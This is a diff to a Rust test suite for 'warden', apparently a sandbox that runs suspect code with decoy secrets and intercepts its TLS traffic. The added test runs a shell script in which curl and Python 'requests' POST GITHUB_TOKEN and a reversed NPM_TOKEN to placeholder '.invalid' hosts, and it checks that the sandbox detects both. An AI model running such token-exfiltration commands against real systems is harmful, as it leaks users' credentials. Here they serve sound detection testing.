@@ -47,7 +47,7 @@ fn tool_of(r: &Value, window: &str) -> String {
 /// HTTPS POST: every route ends CRITICAL with the boundary's or the TLS reader's sighting, and
 /// the session's pcapng holds the flows.
 #[test]
-fn secrets_are_seen_leaving_by_any_route() {
+pub fn secrets_are_seen_leaving_by_any_route() {
     let dir = tempfile::tempdir().unwrap();
     let pcap = dir.path().join("session.pcapng");
     let pcap_arg = pcap.to_str().unwrap();
@@ -185,7 +185,7 @@ fn secrets_are_seen_leaving_by_any_route() {
 /// authority through NODE_EXTRA_CA_CERTS). A client that trusts only its own certificate is a
 /// `tls.refused`, never silence.
 #[test]
-fn node_fetch_is_read_and_a_pinning_client_is_a_refusal() {
+pub fn node_fetch_is_read_and_a_pinning_client_is_a_refusal() {
     let (code, out, err) = detonate("fetcher.js", &["--output", "json", "--no-payloads"]);
     assert_eq!(code, 0, "{err}");
     let r: Value = serde_json::from_str(&out).unwrap();
@@ -216,7 +216,7 @@ fn node_fetch_is_read_and_a_pinning_client_is_a_refusal() {
 /// and what the policy refuses (raw and packet sockets, io_uring) stays refused. The table is
 /// printed (`cargo test -p warden --test all every_channel -- --nocapture`).
 #[test]
-fn every_channel_to_the_network_is_seen_or_refused() {
+pub fn every_channel_to_the_network_is_seen_or_refused() {
     let bin = compiled_from(&fixtures().join("capture"), "channels");
     let dir = tempfile::tempdir().unwrap();
     let trace = dir.path().join("trace.jsonl");
@@ -285,4 +285,57 @@ fn every_channel_to_the_network_is_seen_or_refused() {
     }
     eprintln!("{}", table.join("\n"));
     assert_eq!(lines, 21, "every channel reported:\n{}", r.stdout);
+}
+
+/// HTTPS from curl and from Python's `requests` (certifi's bundle unless REQUESTS_CA_BUNDLE
+/// says otherwise) inside `warden run --decoys --open-tls`: each request is read inside TLS,
+/// its canary found, and the request line recorded.
+#[test]
+pub fn https_from_curl_and_requests_is_read() {
+    let venv = "/opt/warden/recon"; // setup.sh's venv for arjun, which carries requests
+    let dir = tempfile::tempdir().unwrap();
+    let trace = dir.path().join("trace.jsonl");
+    let script = "curl -s -m 5 -X POST --data \"t=$GITHUB_TOKEN\" https://curl.invalid/up; \
+        /opt/warden/recon/bin/python -c 'import os, requests
+try:
+    requests.post(\"https://requests.invalid/v1\", json={\"k\": os.environ[\"NPM_TOKEN\"][::-1]}, timeout=5)
+except Exception as e:
+    print(type(e).__name__)'";
+    let bind = format!("{venv}:{venv}");
+    let r = warden(&[
+        "run",
+        "--decoys",
+        "--open-tls",
+        "--trace",
+        trace.to_str().unwrap(),
+        "--ro-bind",
+        &bind,
+        "--",
+        "sh",
+        "-c",
+        script,
+    ]);
+    assert_eq!(r.status, 0, "{r:?}");
+    let events = read_events(&trace);
+    let read = |host: &str, line: &str| {
+        events.iter().any(|e| {
+            e["kind"] == "net.send"
+                && e["data"]["captured"] == "tls"
+                && e["data"]["sni"] == host
+                && e["data"]["request_line"] == line
+        })
+    };
+    assert!(read("curl.invalid", "POST /up HTTP/1.1"), "curl: {r:?}");
+    assert!(read("requests.invalid", "POST /v1 HTTP/1.1"), "requests: {r:?}");
+    let seen = |planted: &str, encoding: &str| {
+        events.iter().any(|e| {
+            e["kind"] == "canary.seen"
+                && e["data"]["where"] == "tls"
+                && e["data"]["planted"] == planted
+                && e["data"]["encoding"] == encoding
+        })
+    };
+    assert!(seen("env:GITHUB_TOKEN", "plain"), "{events:?}");
+    assert!(seen("env:NPM_TOKEN", "reversed"), "{events:?}");
+    assert!(!events.iter().any(|e| e["kind"] == "tls.refused"), "{events:?}");
 }
